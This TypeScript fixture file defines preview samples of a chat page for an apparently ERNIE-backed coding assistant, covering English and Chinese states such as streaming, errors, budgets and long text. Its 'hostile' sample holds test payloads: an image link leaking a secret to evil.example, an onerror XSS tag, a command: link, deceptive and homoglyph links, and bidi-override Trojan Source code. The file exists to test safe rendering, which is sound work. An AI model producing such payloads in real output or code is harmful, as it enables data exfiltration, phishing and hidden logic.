import type { TurnView } from '../../../src/protocol/turnView.ts';
import { BRANCH_SAMPLES } from './branchSamples.ts';
import { CACHE_SAMPLES } from './cacheSamples.ts';
import { CODE_SAMPLES } from './codeSamples.ts';
import { CONTEXT_SAMPLES } from './contextSamples.ts';
import { COST_SAMPLES } from './costSamples.ts';
import { FLOW_SAMPLES } from './flowSamples.ts';
import { HISTORY_SAMPLES } from './historySamples.ts';
import { READING_SAMPLES } from './readingSamples.ts';
import { SUGGESTION_SAMPLES } from './suggestionSamples.ts';
import { action, ask, chip, page, RECEIPT, type Sample } from './samplePage.ts';

const LONG_WORD = 'com.example.internal.payments.reconciliation.LedgerEntryReconciliationServiceConfiguration';

/** The samples of the preview: the chat page in all important states, in both languages. */
export const SAMPLES: Readonly<Record<string, Sample>> = {
  noKey: { lang: 'en', view: page({ setup: { hasCredentials: false, host: 'qianfan.baidubce.com' } }) },
  noKeyZh: { lang: 'zh-cn', view: page({ setup: { hasCredentials: false, host: 'qianfan.baidubce.com' } }) },
  ready: { lang: 'en', view: page({}) },
  readyZh: { lang: 'zh-cn', view: page({ attachments: [chip('格式化.ts:12–40')] }) },
  answered: { lang: 'en', view: page({ turns: [english(), withTable()], attachments: [chip('server.ts:88–120')] }) },
  answeredZh: { lang: 'zh-cn', view: page({ turns: [chinese()] }) },
  waiting: { lang: 'en', view: page({ turns: [ask('Why is this slow?', { state: 'waiting' })] }) },
  thinkingZh: {
    lang: 'zh-cn',
    view: page({
      turns: [ask('这段代码为什么慢？', { state: 'streaming', reasoning: '先看循环：每次都重新查询数据库……' })],
    }),
  },
  streaming: {
    lang: 'en',
    view: page({
      turns: [
        ask('Write a debounce function.', {
          state: 'streaming',
          reasoning: 'Short and typed.',
          text: 'Here is a **typed** debounce:\n\n```ts\nexport function debounce<Args extends unknown[]>(',
        }),
      ],
      draft: 'And while you are at it,\nadd a test for it',
    }),
  },
  failed: { lang: 'en', view: page({ turns: [failed(), stopped()], draft: 'x' }) },
  failedZh: { lang: 'zh-cn', view: page({ turns: [failedZh(), stopped()] }) },
  overBudgetZh: { lang: 'zh-cn', view: page({ turns: [overBudget()] }) },
  manyButtons: { lang: 'en', view: page({ turns: [manyButtons()], model: 'ernie-4.5-turbo-vl-32k-preview-20261105' }) },
  unbrokenZh: { lang: 'zh-cn', view: page({ turns: [unbroken()], attachments: longChips(), draft: LONG_WORD }) },
  notices: { lang: 'en', view: page({ turns: [noticed(), waitingWithChips()], sendKey: 'ctrlEnter' }) },
  modelWarned: {
    lang: 'en',
    view: page({
      turns: [onPlan()],
      model: 'ernie-4.5-turbo-128k',
      modelProblem: 'ernie-4.5-turbo-128k was retired on 2026-10-29.',
    }),
  },
  onPlanZh: {
    lang: 'zh-cn',
    view: page({ turns: [onPlanZh()], model: LONG_WORD, modelProblem: `${LONG_WORD} 不在该服务的模型列表中。` }),
  },
  ...FLOW_SAMPLES,
  ...BRANCH_SAMPLES,
  ...CACHE_SAMPLES,
  ...COST_SAMPLES,
  ...HISTORY_SAMPLES,
  ...CODE_SAMPLES,
  ...READING_SAMPLES,
  ...CONTEXT_SAMPLES,
  ...SUGGESTION_SAMPLES,
  askedAgain: { lang: 'en', view: page({ turns: [manyButtons(), ask('And now?', { state: 'waiting' })] }) },
  hostile: { lang: 'en', view: page({ turns: [hostile()] }) },
  long: { lang: 'en', view: page({ turns: Array.from({ length: 45 }, (_, index) => english(`turn${index}`)) }) },
};

function english(id = 'english'): TurnView {
  const text = `The loop runs one query for **each user**, so 1,000 users cost 1,000 round trips. Two ways out:

1. Load all rows with one query and group them in memory.
2. Keep the loop, but run it with a limit:
   - at most \`8\` at a time
   - stop at the first failure

## Grouped

\`\`\`ts
export async function ordersByUser(users: readonly User[], db: Database): Promise<Map<UserId, Order[]>> {
\tconst orders = await db.query('select * from orders where user_id = any($1)', [users.map(user => user.id)]);
\treturn Map.groupBy(orders, order => order.userId);
}
\`\`\`

> An index on \`user_id\` is needed, see [the manual](https://www.postgresql.org/docs/current/indexes.html) or https://use-the-index-luke.com/.

- [x] measured
- [ ] index added`;
  const turn = ask(
    'Why is this slow?',
    { text, reasoning: 'Look at the loop first.\nIt awaits.', receipt: RECEIPT },
    id,
  );
  return { ...turn, attachments: [chip('orders.ts:12–40')] };
}

function withTable(): TurnView {
  const text = `| Method | Queries | Time for 1,000 users | Notes |
|:--|--:|--:|:-:|
| Loop | 1,000 | 4.1 s | ~~simple~~ |
| Grouped | 1 | 0.09 s | needs an index on \`user_id\` |

---

Ordinary text after it.`;
  return ask('Compare both in a table.', { text, notice: 'The answer was cut at 4,096 tokens.', receipt: RECEIPT });
}

function chinese(): TurnView {
  const text = `这段代码对**每个用户**都查询一次数据库，1000 个用户就是 1000 次往返。**建议改为一次查询。**然后在内存里按 \`userId\` 分组，
详见[官方文档](https://www.postgresql.org/docs/current/indexes.html)。

### 主要问题

1. 循环里使用了 \`await\`，请求是**串行**的；
2. 没有为 \`user_id\` 建索引；
3. 出错时没有重试——网络抖动会让整个任务失败。

\`\`\`python
def orders_by_user(users: list[User], db: Database) -> dict[int, list[Order]]:
    """一次查询，然后按用户分组。"""
    rows = db.query("select * from orders where user_id = any(%s)", [u.id for u in users])
    return groupby(rows, key=lambda row: row.user_id)
\`\`\`

| 方法 | 查询次数 | 耗时 |
|:--|--:|--:|
| 逐个查询 | 1,000 | 4.1 秒 |
| 合并查询 | 1 | 0.09 秒 |

> 注意：数据量很大时请分批处理。`;
  const receipt = {
    ...RECEIPT,
    duration: '3.2 秒',
    description: 'ernie-5.1：输入 1,234 tokens，输出 356 tokens，¥0.0123',
  };
  const turn = ask('这段代码为什么慢？请说明原因，并给出修改后的版本。', { text, reasoning: '先看循环。', receipt });
  return { ...turn, attachments: [chip('订单.py:12–40')] };
}

function failed(): TurnView {
  const message =
    'qianfan.baidubce.com refused this API Key; it may be deleted or incomplete. Nothing was charged. (invalid_iam_token)';
  const actions = [action('Set Credentials...'), action('Open API Key Page')];
  return ask('Explain this function.', { state: 'failed', failure: { severity: 'error', message, actions } });
}

function failedZh(): TurnView {
  const message = '已达到每分钟速率限制（60 RPM），23 秒后自动重试，等待不计费。（rpm_rate_limit_exceeded）';
  const actions = [action('立即重试', true), action('改用 ernie-4.5-turbo-128k'), action('取消')];
  return ask('解释这个函数。', {
    state: 'failed',
    text: '这个函数先',
    failure: { severity: 'error', message, actions },
  });
}

function stopped(): TurnView {
  const receipt = { ...RECEIPT, amount: '≈¥0.0031' };
  return ask('Explain it all.', { state: 'stopped', text: 'It begins with', receipt });
}

function overBudget(): TurnView {
  const message = '今日预算（¥5.00）剩余 ¥0.0026，本次提问最多可能花费 ¥0.0806。问题未发送，已为你保留。';
  const actions = [action('仅允许这一次（最多 ¥0.0806）', true), action('设置预算...'), action('重试', true)];
  return ask('再解释一次。', { state: 'failed', failure: { severity: 'warning', message, actions } });
}

function onPlan(): TurnView {
  const description = 'ernie-5.1 at Plan: 1,234 input tokens (0 cached), 356 output tokens, flat plan, 3.2 s';
  return ask('Who pays?', { text: 'The plan does.', receipt: { ...RECEIPT, amount: 'flat plan', description } });
}

function onPlanZh(): TurnView {
  const description = 'ernie-5.1（Plan）：输入 1,234 tokens（命中缓存 0），输出 356 tokens，套餐，3.2 秒';
  const receipt = { ...RECEIPT, tokens: '输入 1,234 + 输出 356', amount: '套餐', duration: '3.2 秒', description };
  return ask('由谁付费？', { text: '由套餐支付。', receipt });
}

function manyButtons(): TurnView {
  const message =
    'gateway.models.intranet.example-company.internal:8443 cannot be reached. Nothing was charged. Check the network and the proxy; in a company network this host may have to be allowed. (proxy_authentication_required_by_upstream, HTTP 407)';
  const others = ['Open Proxy Settings', 'Select Model...', 'Show Log', 'Diagnose Connection'];
  const actions = [action('Retry', true), ...others.map(label => action(label))];
  const reasoning = `${LONG_WORD} first.\n\nThen the rest.`;
  return ask('Why?', { state: 'failed', reasoning, failure: { severity: 'error', message, actions } });
}

function unbroken(): TurnView {
  const text = `类名 ${LONG_WORD} 太长，\`${LONG_WORD}\` 也是，还有 https://example.com/${'a'.repeat(90)}。

- ${'长'.repeat(60)}
- **${LONG_WORD}**

| 名称 | 说明 |
|:--|:--|
| ${LONG_WORD} | ${'很长的说明'.repeat(8)} |`;
  const turn = ask(`为什么 ${LONG_WORD} 这么长？`, { text, receipt: { ...RECEIPT, model: LONG_WORD } });
  return { ...turn, attachments: longChips() };
}

function longChips() {
  return [chip(`${LONG_WORD}.java:1,204–1,388`), chip('非常非常长的中文文件名称用来测试换行.ts:7'), chip('a.ts:1')];
}

function noticed(): TurnView {
  const notice = 'The service withdrew this answer under its safety rules. Rephrase the question.';
  return ask('Tell me more.', { notice, receipt: RECEIPT });
}

function waitingWithChips(): TurnView {
  return { ...ask('And these?', { state: 'waiting' }), attachments: [chip('orders.ts:12–40'), chip('users.ts:7')] };
}

function hostile(): TurnView {
  const text = `![track](https://evil.example/p.png?d=secret) <img src=x onerror=alert(1)> [run](command:workbench.action.quit)

[https://baidu.com](https://evil.example/login) and [docs](https://аpple.com) and [](https://evil.example)

\`\`\`js
if (access !== 'user\u202e \u2066// check admin\u2069 \u2066') { zero\u200bwidth(); }
\`\`\``;
  return ask('Summarise this page.', { text });
}
